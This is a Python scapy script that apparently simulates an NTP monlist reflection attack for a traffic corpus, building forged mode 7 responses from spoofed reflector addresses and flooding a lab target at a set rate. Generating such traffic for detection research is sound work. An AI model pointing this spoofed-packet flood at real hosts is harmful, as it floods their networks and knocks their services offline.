"""NTP monlist reflection towards the protected host, for the corpus (see ntp_reflection.sh).

Runs in the NET namespace. Pre-builds the answers of a fixed set of reflectors (198.18.24.1
and up, real NET addresses: they are bindable there and receive the host's ICMP errors) to
spoofed MON_GETLIST_1 requests: NTP mode 7 responses (implementation 3 = XNTPD, request 42),
6 info_monitor_1 items of 72 bytes each, i.e. 440-byte UDP payloads in 468-byte IP packets,
from source port 123 to random high ports of the victim. Each reflector keeps its own TTL (as
if at its own hop distance). Sends them through one scapy L2 socket, reflectors interleaved,
at a fixed rate, bounded by a packet count and a deadline. Prints the epoch time of its first
packet (the onset: building the frames takes a second or two).
"""

import argparse
import ipaddress
import random
import struct
import time

from scapy.all import IP, UDP, Ether, Raw, conf, raw  # type: ignore

ITEM = struct.Struct("!IIIIIIIHBBII16s16s")  # info_monitor_1, 72 bytes


def monlist_answer(rnd: random.Random, reflector: str, seq: int, more: bool) -> bytes:
    # R=1 (response), M (more), VN=2, mode 7; then auth=0 + sequence, implementation 3,
    # request 42 (MON_GETLIST_1), err=0 + 6 items, mbz=0 + item size 72.
    head = struct.pack("!BBBBHH", 0x80 | (0x40 if more else 0) | (2 << 3) | 7, seq & 0x7F, 3, 42, 6, 72)
    items = b""
    for _ in range(6):
        client = int(ipaddress.IPv4Address(f"198.18.{rnd.randint(128, 255)}.{rnd.randint(1, 254)}"))
        items += ITEM.pack(
            rnd.randint(1, 3600), rnd.randint(0, 86400), 0, rnd.randint(1, 5000), client,
            int(ipaddress.IPv4Address(reflector)), 0, rnd.randint(1024, 65535), 3, 4, 0, 0,
            bytes(16), bytes(16),
        )
    return head + items


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--target", default="198.18.0.1")
    ap.add_argument("--reflectors", type=int, default=300)
    ap.add_argument("--first", default="198.18.24.1")
    ap.add_argument("--per-reflector", type=int, default=10, help="distinct answers built per reflector")
    ap.add_argument("--rate", type=float, default=500.0, help="packets per second")
    ap.add_argument("--seconds", type=float, default=15.0)
    ap.add_argument("--seed", type=int, default=123)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    first = ipaddress.IPv4Address(a.first)
    refl = [str(first + i) for i in range(a.reflectors)]
    ttl = {r: rnd.choice([rnd.randint(44, 60), rnd.randint(107, 121), rnd.randint(236, 250)]) for r in refl}
    rounds = []
    for k in range(a.per_reflector):
        order = refl[:]
        rnd.shuffle(order)
        rounds.append([
            raw(
                Ether(src=a.src_mac, dst=a.dst_mac)
                / IP(src=r, dst=a.target, ttl=ttl[r], id=rnd.randint(0, 65535))
                / UDP(sport=123, dport=rnd.randint(1024, 65535))
                / Raw(monlist_answer(rnd, r, k, k + 1 < a.per_reflector))
            )
            for r in order
        ])
    pkts = [p for rnd_ in rounds for p in rnd_]
    count = int(a.rate * a.seconds)
    sock = conf.L2socket(iface=a.iface)
    first_epoch = time.time()  # the attack's onset: right before its first packet
    start = time.monotonic()
    sent = 0
    try:
        for i in range(count):
            due = start + i / a.rate
            now = time.monotonic()
            if now - start > a.seconds + 0.5:
                break
            if due > now:
                time.sleep(due - now)
            sock.send(pkts[i % len(pkts)])
            sent += 1
    finally:
        sock.close()
    took = time.monotonic() - start
    print(f"onset {first_epoch:.6f} sent {sent} packets from {len(refl)} reflectors in {took:.2f} s ({sent / took:.0f}/s)")


if __name__ == "__main__":
    main()
